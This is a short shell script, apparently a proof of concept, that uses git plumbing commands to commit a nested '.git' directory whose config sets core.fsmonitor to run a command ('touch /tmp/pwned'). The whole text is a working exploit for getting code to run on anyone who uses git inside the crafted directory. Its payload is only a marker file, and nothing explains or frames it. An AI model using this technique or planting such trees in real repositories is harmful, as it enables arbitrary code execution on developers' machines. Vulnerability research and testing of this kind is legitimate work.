blob=$(printf '[core]\n\tfsmonitor = touch /tmp/pwned\n' | git hash-object -w --stdin)
inner=$(printf '100644 blob %s\tconfig\n' "$blob" | git mktree)
static=$(printf '040000 tree %s\t.git\n' "$inner" | git mktree)
root=$( { git ls-tree HEAD; printf '040000 tree %s\tstatic\n' "$static"; } | git mktree)
commit=$(git commit-tree "$root" -p HEAD -m "a '.git' entry")
git update-ref HEAD "$commit"
